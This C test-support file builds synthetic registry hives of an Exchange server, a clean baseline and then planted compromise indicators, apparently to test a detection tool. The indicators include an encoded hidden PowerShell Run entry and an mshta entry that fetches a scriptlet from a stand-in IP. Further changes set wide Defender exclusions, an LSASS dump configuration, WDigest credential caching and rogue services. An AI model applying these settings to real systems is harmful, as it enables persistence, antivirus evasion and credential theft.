/* Test support: registry hives of an Exchange server (fixhives.h). */
#include <stdio.h>

#include "fixhives.h"

#define SETUP "Microsoft\\ExchangeServer\\v15\\Setup"
#define UNINST "Microsoft\\Windows\\CurrentVersion\\Uninstall\\"
#define RUN "Microsoft\\Windows\\CurrentVersion\\Run"
#define EXCL "Microsoft\\Windows Defender\\Exclusions\\"
#define CV "Microsoft\\Windows NT\\CurrentVersion"
#define T1 T_HIVE_T1
#define T2 T_HIVE_T2

t_hw *t_hive_software(void)
{
    t_hw *w = t_hw_new("CMI-CreateHive{199DAFC2-6F16-4946-BF90-5A3FC3A60902}");
    t_hw_key(w, CV, 0);
    t_hw_sz(w, CV, "ProductName", "Windows Server 2016 Standard");
    t_hw_key(w, SETUP, T1);
    t_hw_dword(w, SETUP, "MsiProductMajor", 15);
    t_hw_dword(w, SETUP, "MsiProductMinor", 1);
    t_hw_dword(w, SETUP, "MsiBuildMajor", 2176);
    t_hw_dword(w, SETUP, "MsiBuildMinor", 2);
    t_hw_sz(w, SETUP, "MsiInstallPath", "D:\\Exchange\\V15\\");
    t_hw_sz(w, UNINST "{4934D1EA-BE46-48B1-8847-F1AF20E892C1}{6AC2C2A9-52E2-4C61-B5A1-6F1F7C7B4B29}",
            "DisplayName",
            "Security Update for Exchange Server 2016 Cumulative Update 19 (KB5000871)");
    t_hw_sz(w, UNINST "{4934D1EA-BE46-48B1-8847-F1AF20E892C1}{6AC2C2A9-52E2-4C61-B5A1-6F1F7C7B4B29}",
            "InstallDate", "20210303");
    t_hw_key(w, "Wow6432Node\\" UNINST "KB5001779", T2);
    t_hw_sz(w, "Wow6432Node\\" UNINST "KB5001779", "DisplayName",
            "Update for Exchange Server 2016 CU19");
    t_hw_sz(w, UNINST "7-Zip", "DisplayName", "7-Zip 19.00 (x64)");
    t_hw_sz(w, RUN, "VMware User Process",
            "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr");
    t_hw_expand_sz(w, RUN, "SecurityHealth", "%windir%\\system32\\SecurityHealthSystray.exe");
    /* Microsoft's recommended Exchange exclusions, old and new */
    t_hw_dword(w, EXCL "Paths", "%ExchangeInstallPath%ClientAccess\\OAB", 0);
    t_hw_dword(w, EXCL "Paths", "D:\\Exchange\\V15\\Logging", 0);
    t_hw_dword(w, EXCL "Paths", "D:\\Exchange\\V15\\TransportRoles\\Data\\Queue", 0);
    t_hw_dword(w, EXCL "Paths", "C:\\Windows\\Cluster", 0);
    t_hw_dword(w, EXCL "Paths", "C:\\inetpub\\temp\\IIS Temporary Compressed Files", 0);
    /* the IIS logs, as admins write them: no trailing backslash, or a variable */
    t_hw_dword(w, EXCL "Paths", "C:\\inetpub\\logs", 0);
    t_hw_dword(w, EXCL "Paths", "%SystemDrive%\\inetpub\\logs\\LogFiles", 0);
    t_hw_dword(w, EXCL "Paths",
               "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files", 0);
    t_hw_dword(w, EXCL "Paths", "C:\\Windows\\System32\\Inetsrv", 0);
    t_hw_dword(w, EXCL "Extensions", ".edb", 0);
    t_hw_dword(w, EXCL "Extensions", "log", 0);
    t_hw_dword(w, EXCL "Processes", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", 0);
    t_hw_dword(w, EXCL "Processes", "D:\\Exchange\\V15\\Bin\\EdgeTransport.exe", 0);
    t_hw_dword(w, CV "\\Image File Execution Options\\notepad.exe", "GlobalFlag", 0x200);
    return w;
}

t_hw *t_hive_system(unsigned current)
{
    t_hw *w = t_hw_new("ROOT");
    t_hw_dword(w, "Select", "Current", current);
    t_hw_dword(w, "Select", "Default", 1);
    for (unsigned cs = 1; cs <= 2; cs++) {
        char p[128];
        snprintf(p, sizeof p, "ControlSet%03u\\Services\\W32Time", cs);
        t_hw_expand_sz(w, p, "ImagePath", "%SystemRoot%\\system32\\svchost.exe -k LocalService");
        snprintf(p, sizeof p, "ControlSet%03u\\Services\\W32Time\\Parameters", cs);
        t_hw_expand_sz(w, p, "ServiceDll", "%systemroot%\\system32\\w32time.dll");
        snprintf(p, sizeof p, "ControlSet%03u\\Services\\WinDefend", cs);
        t_hw_expand_sz(w, p, "ImagePath",
                       "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2102.4-0\\"
                       "MsMpEng.exe\"");
        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MpKsl4b3b1e2a", cs);
        t_hw_sz(w, p, "ImagePath",
                "\\??\\C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\"
                "{5E4DEE6E-1F53-4A3B-9E3B-1A2B3C4D5E6F}\\MpKslDrv.sys");
        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MSExchangeUM", cs);
        t_hw_key(w, p, T2);
        t_hw_dword(w, p, "Start", 4);
        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MSExchangeUMCR", cs);
        t_hw_key(w, p, T2);
        t_hw_dword(w, p, "Start", 4);
        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MSExchangeIS", cs);
        t_hw_sz(w, p, "ImagePath", "\"D:\\Exchange\\V15\\Bin\\Microsoft.Exchange.Store.Service.exe\"");
        t_hw_dword(w, p, "Start", 2);
        snprintf(p, sizeof p, "ControlSet%03u\\Control\\SecurityProviders\\WDigest", cs);
        t_hw_dword(w, p, "UseLogonCredential", 0);
    }
    return w;
}

t_hw *t_hive_ntuser(void)
{
    t_hw *w = t_hw_new("CsiTool-CreateHive-{00000000-0000-0000-0000-000000000000}");
    t_hw_key(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer", 0);
    t_hw_sz(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive",
            "\"C:\\Users\\admin\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background");
    return w;
}

void t_hive_software_changes(t_hw *w)
{
    t_hw_key(w, RUN, T2);
    t_hw_sz(w, RUN, "svchost", "C:\\ProgramData\\svchost.exe");
    t_hw_sz(w, RUN "Once", "upd",
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
    t_hw_sz(w, "Wow6432Node\\" RUN, "x",
            "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.exe");
    t_hw_key(w, EXCL "Paths", T1);
    t_hw_dword(w, EXCL "Paths", "C:\\inetpub\\wwwroot\\aspnet_client", 0);
    t_hw_dword(w, EXCL "Paths", "%ExchangeInstallPath%FrontEnd\\HttpProxy", 0);
    t_hw_dword(w, EXCL "Paths", "C:\\", 0);
    t_hw_dword(w, EXCL "Paths", "D:\\Exchange\\V15", 0);
    t_hw_key(w, "Policies\\" EXCL "Extensions", T2);
    t_hw_dword(w, "Policies\\" EXCL "Extensions", ".aspx", 0);
    t_hw_dword(w, "Policies\\" EXCL "Extensions", "*", 0);
    t_hw_dword(w, CV "\\Image File Execution Options\\lsass.exe", "GlobalFlag", 0x200);
    t_hw_key(w, CV "\\SilentProcessExit\\lsass.exe", T1);
    t_hw_dword(w, CV "\\SilentProcessExit\\lsass.exe", "ReportingMode", 2);
    t_hw_sz(w, CV "\\SilentProcessExit\\lsass.exe", "LocalDumpFolder", "c:\\temp");
    t_hw_dword(w, CV "\\SilentProcessExit\\lsass.exe", "DumpType", 2);
    t_hw_key(w, "MSERTBootstrap\\PatchState", T2);
    t_hw_sz(w, "MSERTBootstrap\\PatchState", "Timestamp", "03/07/2021 01:00:00");
    t_hw_sz(w, "MSERTBootstrap\\PatchState", "IISVersion", "1 IIS version 10.0");
    t_hw_sz(w, "MSERTBootstrap\\PatchState", "MSERT", "0 MSERT detected threats");
}

void t_hive_system_changes(t_hw *w)
{
    t_hw_key(w, "ControlSet002\\Services\\msupdate", T1);
    t_hw_sz(w, "ControlSet002\\Services\\msupdate", "ImagePath", "C:\\Users\\Public\\msupdate.exe");
    t_hw_key(w, "ControlSet002\\Services\\updsvc", T2);
    t_hw_expand_sz(w, "ControlSet002\\Services\\updsvc", "ImagePath",
                   "%COMSPEC% /c C:\\Windows\\Temp\\x.bat");
    t_hw_expand_sz(w, "ControlSet002\\Services\\netsvc", "ImagePath",
                   "%SystemRoot%\\system32\\svchost.exe -k netsvcs");
    t_hw_key(w, "ControlSet002\\Services\\netsvc\\Parameters", T2);
    t_hw_expand_sz(w, "ControlSet002\\Services\\netsvc\\Parameters", "ServiceDll",
                   "%ProgramData%\\Microsoft\\netsvc.dll");
    t_hw_sz(w, "ControlSet002\\Services\\websvc", "ImagePath",
            "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\svc.exe\"");
    t_hw_key(w, "ControlSet002\\Control\\SecurityProviders\\WDigest", T2);
    t_hw_dword(w, "ControlSet002\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", 1);
    /* the set not in use is not read */
    t_hw_sz(w, "ControlSet001\\Services\\old", "ImagePath", "C:\\ProgramData\\old.exe");
}

void t_hive_ntuser_changes(t_hw *w)
{
    t_hw_key(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", T1);
    t_hw_sz(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "helper",
            "mshta.exe javascript:a=GetObject(\"script:http://198.51.100.7/x.sct\").Exec();close()");
    t_hw_sz(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "dll",
            "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL");
}
